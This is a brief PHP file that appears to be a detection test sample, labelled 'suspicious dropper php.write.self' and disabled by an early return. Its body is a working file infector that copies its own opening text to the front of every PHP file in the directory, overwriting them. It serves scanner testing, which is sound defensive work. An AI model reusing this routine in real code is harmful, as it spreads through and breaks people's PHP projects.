<?php return; // want: suspicious dropper php.write.self
$me = fopen(__FILE__, 'r');
$text = substr(fread($me, filesize(__FILE__)), 0, 400);
$all = opendir('.');
while (($one = readdir($all)) !== false) {
	if (substr($one, -3) != 'php') { continue; }
	$old = file_get_contents($one);
	$out = fopen($one, 'w');
	fwrite($out, $text . $old);
	fclose($out);
}
